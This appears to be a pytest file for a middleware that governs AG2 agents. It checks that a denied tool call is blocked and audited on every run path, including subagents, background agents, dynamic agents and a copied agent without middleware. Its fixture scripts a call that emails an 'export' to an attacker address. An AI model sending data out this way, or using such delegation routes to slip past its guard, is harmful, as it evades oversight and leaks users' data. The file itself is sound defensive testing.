"""Every public way to run an AG2 1.x agent, every multi-agent construct and every public tool
class, for the installed AG2: each is either governed (a denied call does not run and is in the
audit) or refused with a clear error. Anything a future release adds fails here until it is
classified below."""

from __future__ import annotations

import asyncio
import inspect
from collections.abc import Awaitable, Callable
from typing import Any

import ag2
import ag2.tools
import ag2.tools.dynamic
import ag2.tools.subagents
import pytest
from ag2 import Agent, AgentReply, AgentRun, TaskConfig
from ag2.events import ModelRequest, TextInput
from ag2.tools.tool import Tool

from tether.ag2 import TetherMiddleware, UngovernedToolError
from tether.core import AuditStore, Guard

from .conftest import Tools, call, events, scripted

POLICY: dict[str, Any] = {
    "version": 1,
    "tools": {
        "send_email": {"effects": ["external"]},
        "lookup_order": {"effects": ["read"]},
        "task_worker": {"effects": ["read"]},
        "background_task_worker": {"effects": ["read"]},
        "run_subtask": {"effects": ["read"]},
        "run_subtasks": {"effects": ["read"]},
        "create_and_run_agent": {"effects": ["read"]},
    },
    "agents": {
        "boss": {
            "purpose": "delegate",
            "owner": "ops@acme.example",
            "tools": {
                name: "allow"
                for name in (
                    "task_worker",
                    "background_task_worker",
                    "run_subtask",
                    "run_subtasks",
                    "create_and_run_agent",
                    "lookup_order",
                )
            },
        }
    },
}

BAD_EMAIL = call("send_email", "call_0", to="eve@evil.example", body="export")
Runner = Callable[[Guard, Tools], Awaitable[Any]]


def boss(guard: Guard, tools: Any, *turns: Any, **kwargs: Any) -> Agent:
    return Agent("boss", config=scripted(*turns, "done"), tools=tools, middleware=[TetherMiddleware(guard)], **kwargs)


def worker(tools: Tools, middleware: list[Any] | None = None) -> Agent:
    return Agent("worker", config=scripted(BAD_EMAIL, "done"), tools=tools.all(), middleware=middleware or [])


# -- how each public entry point is driven to a denied call ------------------------------------


async def agent_ask(guard: Guard, tools: Tools) -> Any:
    return await boss(guard, tools.all(), BAD_EMAIL).ask("go")


async def agent_run(guard: Guard, tools: Tools) -> Any:
    async with boss(guard, tools.all(), BAD_EMAIL).run("go") as run:
        run.start()
        return await run.result()


async def agent_resume(guard: Guard, tools: Tools) -> Any:
    return await boss(guard, tools.all(), BAD_EMAIL).resume(ModelRequest([TextInput("go")]))


async def reply_ask(guard: Guard, tools: Tools) -> Any:
    reply = await boss(guard, tools.all(), "hello", BAD_EMAIL).ask("hi")
    return await reply.ask("now go")


async def reply_run(guard: Guard, tools: Tools) -> Any:
    reply = await boss(guard, tools.all(), "hello", BAD_EMAIL).ask("hi")
    async with reply.run("now go") as run:
        return await run.result()


async def in_a_task(guard: Guard, tools: Tools) -> Any:
    agent = boss(guard, tools.all(), BAD_EMAIL)
    async with agent.task("export") as task:
        return await agent.ask("go", dependencies={"ag2.task": task})


async def as_tool(guard: Guard, tools: Tools) -> Any:
    delegate = worker(tools).as_tool(description="Do the work.")
    return await boss(guard, [delegate], call("task_worker", "call_0", objective="email")).ask("go")


async def subagent_tool_persistent(guard: Guard, tools: Tools) -> Any:
    stream = ag2.tools.subagents.persistent_stream()
    delegate = ag2.tools.subagents.subagent_tool(worker(tools), description="Do the work.", stream=stream)
    return await boss(guard, [delegate], call("task_worker", "call_0", objective="email")).ask("go")


async def background_agent(guard: Guard, tools: Tools) -> Any:
    delegate = ag2.tools.subagents.background_agent_tool(worker(tools), description="Do it later.")
    turns = (call("background_task_worker", "call_0", objective="email"), "started", "all done")
    before = asyncio.all_tasks()
    reply = await boss(guard, [delegate], *turns).ask("go")
    started = asyncio.all_tasks() - before  # AG2 1.0 returns before the background work is done
    if started:
        await asyncio.wait(started, timeout=30)
    return reply


async def taskconfig_subtask(guard: Guard, tools: Tools) -> Any:
    config = TaskConfig(config=scripted(BAD_EMAIL, "done"))
    return await boss(guard, tools.all(), call("run_subtask", "call_0", task="email"), tasks=config).ask("go")


async def taskconfig_subtasks(guard: Guard, tools: Tools) -> Any:
    config = TaskConfig(config=scripted(BAD_EMAIL, "done"))
    turn = call("run_subtasks", "call_0", tasks=["email"], parallel=False)
    return await boss(guard, tools.all(), turn, tasks=config).ask("go")


async def dynamic(guard: Guard, tools: Tools) -> Any:
    factory = ag2.tools.dynamic.dynamic_agent(available_tools=tools.all(), config=scripted(BAD_EMAIL, "done"))
    spec = {"name": "helper", "prompt": ["Email."], "tool_names": ["send_email"]}
    return await boss(guard, [factory], call("create_and_run_agent", "call_0", spec=spec, objective="email")).ask("go")


async def spec_copy(guard: Guard, tools: Tools) -> Any:
    copied = ag2.AgentSpec.from_agent(boss(guard, tools.all())).to_agent(
        available_tools=tools.all(), config=scripted(BAD_EMAIL, "done")
    )  # a copy of the guarded agent, without its middleware
    return await copied.ask("go")


RUNS: dict[str, Runner] = {
    "Agent.ask": agent_ask,
    "Agent.run": agent_run,
    "Agent.resume": agent_resume,
    "AgentReply.ask": reply_ask,
    "AgentReply.run": reply_run,
    "Agent.task": in_a_task,
    "Agent.as_tool": as_tool,
    "subagents.subagent_tool": subagent_tool_persistent,
    "subagents.persistent_stream": subagent_tool_persistent,
    "subagents.background_agent_tool": background_agent,
    "TaskConfig": taskconfig_subtask,
    "TaskConfig.run_subtasks": taskconfig_subtasks,
    "dynamic.dynamic_agent": dynamic,
    "AgentSpec.to_agent": spec_copy,
}

#: public callables that configure an agent or a run rather than run one
NOT_RUNS = {
    "Agent.add_middleware": "configuration",
    "Agent.insert_middleware": "configuration",
    "Agent.add_observer": "configuration",
    "Agent.observer": "configuration (decorator)",
    "Agent.add_policy": "configuration (context assembly)",
    "Agent.add_tool": "configuration",
    "Agent.tool": "configuration (decorator)",
    "Agent.hitl_hook": "configuration (decorator)",
    "Agent.prompt": "configuration (decorator)",
    "AgentRun.start": "drives the Agent.run turn",
    "AgentRun.result": "drives the Agent.run turn",
    "AgentRun.enqueue": "queues input for the Agent.run turn",
    "AgentReply.content": "reads the reply",
    "AgentReply.usage": "reads the reply",
    "subagents.StreamFactory": "a type",
    "subagents.StreamOrFactory": "a type",
}


def public(cls: type) -> set[str]:
    names = set()
    for name, member in inspect.getmembers(cls):
        if name.startswith("_") or isinstance(inspect.getattr_static(cls, name), property):
            continue
        if callable(member):
            names.add(f"{cls.__name__}.{name}")
    return names


def test_every_public_entry_point_and_construct_is_classified() -> None:
    found = public(Agent) | public(AgentReply) | public(AgentRun)
    found |= {f"subagents.{name}" for name in ag2.tools.subagents.__all__}
    found |= {f"dynamic.{name}" for name in ag2.tools.dynamic.__all__}
    found |= {"TaskConfig", "AgentSpec.to_agent"}
    unclassified = found - set(RUNS) - set(NOT_RUNS)
    assert not unclassified, f"classify these AG2 {ag2.__version__} entry points: {sorted(unclassified)}"


@pytest.mark.parametrize("entry", sorted(RUNS))
def test_each_run_entry_point_is_governed(entry: str, store: AuditStore) -> None:
    guard = Guard(POLICY, store=store)
    tools = Tools()

    asyncio.run(asyncio.wait_for(RUNS[entry](guard, tools), 60))

    assert tools.runs["send_email"] == 0
    denied = [e for e in events(guard, "tool.decision") if e.tool == "send_email"]
    assert [e.verdict for e in denied] == ["deny"], entry


# -- tool classes ----------------------------------------------------------------------------

#: tools whose calls the model provider runs: a guarded agent may not offer them (by default)
PROVIDER_RUN = {
    "CodeExecutionTool",
    "FileSearchTool",
    "GoogleMapsTool",
    "ImageGenerationTool",
    "MCPServerTool",
    "MemoryTool",
    "ShellTool",
    "SkillsTool",
    "WebFetchTool",
    "WebSearchTool",
    "XSearchTool",
}
#: tools that run here, each call through the agent's middleware
LOCAL = {
    "AnthropicBashTool",
    "FilesystemToolkit",
    "SandboxCodeTool",
    "SandboxShellTool",
    "SkillSearchToolkit",
    "SkillsToolkit",
    "Toolkit",
    "MCPToolkit",  # its server's tools; driven with a real server in test_mcp.py
}
BUILD: dict[str, Callable[[], Any]] = {
    "MCPServerTool": lambda: ag2.tools.MCPServerTool(server_url="https://mcp.example/mcp", server_label="remote"),
}


def tool_classes() -> list[str]:
    return sorted(
        name
        for name in ag2.tools.__all__
        if inspect.isclass(getattr(ag2.tools, name)) and issubclass(getattr(ag2.tools, name), Tool)
    )


def test_every_public_tool_class_is_classified() -> None:
    unclassified = set(tool_classes()) - PROVIDER_RUN - LOCAL
    assert not unclassified, f"classify these AG2 {ag2.__version__} tool classes: {sorted(unclassified)}"


@pytest.mark.parametrize("name", sorted(PROVIDER_RUN))
def test_a_guarded_agent_offering_a_provider_run_tool_is_refused(name: str, store: AuditStore) -> None:
    if name not in tool_classes():
        pytest.skip(f"AG2 {ag2.__version__} has no {name}")
    cls = getattr(ag2.tools, name)
    built = BUILD.get(name, cls)()
    config = scripted("done")
    agent = Agent("boss", config=config, tools=[built], middleware=[TetherMiddleware(Guard(POLICY, store=store))])

    with pytest.raises(UngovernedToolError, match="which the model provider runs itself"):
        asyncio.run(agent.ask("go"))

    assert config.mock.call_count == 0


@pytest.mark.parametrize("name", sorted(LOCAL - {"MCPToolkit", "SandboxCodeTool"}))
def test_a_guarded_agent_may_offer_a_tool_that_runs_its_calls_through_middleware(name: str, store: AuditStore) -> None:
    if name not in tool_classes():
        pytest.skip(f"AG2 {ag2.__version__} has no {name}")
    agent = Agent(
        "boss",
        config=scripted("done"),
        tools=[getattr(ag2.tools, name)()],
        middleware=[TetherMiddleware(Guard(POLICY, store=store))],
    )

    assert asyncio.run(agent.ask("go")).body == "done"
